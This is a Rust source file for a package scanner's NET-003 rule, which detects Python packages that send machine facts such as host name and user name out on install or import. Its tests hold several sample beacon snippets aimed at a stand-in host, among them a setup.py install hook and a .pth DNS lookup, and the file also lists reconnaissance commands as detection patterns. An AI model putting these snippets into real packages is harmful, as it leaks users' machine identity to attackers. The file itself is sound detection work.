//! `NET-003`: facts about the machine leave without being asked for.

use std::collections::{BTreeMap, BTreeSet};

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::sent::{FAR, command_lines, program, sends, source_call};
use super::{Rule, in_context, observe_flow};
use crate::python::{Analysis, Flow, Label};

/// The rule.
pub(super) struct Beacon;

impl Rule for Beacon {
    fn id(&self) -> &'static str {
        "NET-003"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "facts about the machine are sent without being asked for"
    }

    fn manual(&self) -> &'static str {
        "Two or more of host name, user name, working directory, hardware address and \
         network address are sent when the package is installed or imported. One alone \
         counts less.\n\n\
         It is how attackers learn whose machine took the bait, above all where a public \
         name was registered to be mistaken for a private one.\n\n\
         Mistaken for it: telemetry. It should wait until it is asked for, and a reviewer \
         should know of it."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        let mut facts: BTreeMap<(usize, usize), (&Flow, BTreeSet<&str>)> = BTreeMap::new();
        for flow in &analysis.flows {
            let is_near = flow.context.is_unasked() && flow.hops <= FAR;
            if is_near && sends(flow.kind) && tells_of_machine(analysis, flow) {
                let held = facts.entry((flow.module, flow.call));
                held.or_insert_with(|| (flow, BTreeSet::new()))
                    .1
                    .insert(&flow.what);
            }
        }
        for (flow, facts) in facts.into_values() {
            let worst = if facts.len() > 1 || tells_all(&facts) {
                Severity::High
            } else {
                Severity::Medium
            };
            let severity = in_context(worst, flow.context);
            let confidence = Confidence::of(85).in_context(flow.context);
            let facts: Vec<&str> = facts.into_iter().collect();
            let message = format!("{} sends {}", analysis.sink(flow).target, facts.join(", "));
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
    }
}

/// Commands that print who and where they are.
const TELLING: &[&str] = &[
    "whoami",
    "hostname",
    "id",
    "uname",
    "ifconfig",
    "ipconfig",
    "ip",
    "systeminfo",
    "w",
    "ps",
    "env",
    "pwd",
];

fn tells_of_machine(analysis: &Analysis, flow: &Flow) -> bool {
    match flow.label {
        Label::HostInfo => {
            !flow.what.starts_with("pathlib.")
                && !matches!(&*flow.argument, "headers" | "cert" | "verify")
        }
        Label::Output => source_call(analysis, flow).is_some_and(|call| {
            command_lines(call)
                .iter()
                .any(|line| TELLING.contains(&program(line).as_str()))
        }),
        _ => false,
    }
}

/// Whether one of the facts is several by itself.
fn tells_all(facts: &BTreeSet<&str>) -> bool {
    facts.iter().any(|fact| {
        matches!(
            *fact,
            "platform.uname" | "os.uname" | "socket.gethostbyname_ex"
        )
    })
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn facts_about_the_machine_are_followed() {
        for (path, code) in [
            (
                "setup.py",
                "import socket, getpass, os, requests\nrequests.post('https://beacon.invalid', json={'h': socket.gethostname(), 'u': getpass.getuser(), 'd': os.getcwd()})",
            ),
            (
                "demo/__init__.py",
                "import os, urllib.request as u, platform\nu.urlopen('http://beacon.invalid/?' + platform.node() + '&' + os.getlogin())",
            ),
            (
                "setup.py",
                "from setuptools import setup\nfrom setuptools.command.install import install\nimport socket, uuid, requests\nclass I(install):\n    def run(self):\n        install.run(self)\n        d = f'{socket.gethostname()}|{uuid.getnode()}'\n        requests.get('https://beacon.invalid', params={'d': d})\nsetup(cmdclass={'install': I})",
            ),
            (
                "demo.pth",
                "import socket, os; socket.gethostbyname(f'{os.getlogin()}.{socket.gethostname()}.beacon.invalid')",
            ),
            (
                "demo/__init__.py",
                "import subprocess, requests\nrequests.post('https://beacon.invalid', data=subprocess.check_output('whoami') + subprocess.check_output('hostname'))",
            ),
        ] {
            found("NET-003", path, code);
        }
    }

    #[test]
    fn facts_that_stay_or_are_asked_for_are_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import socket, os\nprint(socket.gethostname(), os.getcwd())",
            ),
            (
                "demo/__init__.py",
                "import socket, requests, getpass\ndef report():\n    requests.post('https://a.invalid', json=[socket.gethostname(), getpass.getuser()])",
            ),
            (
                "demo/__init__.py",
                "import socket, requests\nrequests.get('https://a.invalid')\nname = socket.gethostname()",
            ),
        ] {
            quiet("NET-003", path, code);
        }
    }
}
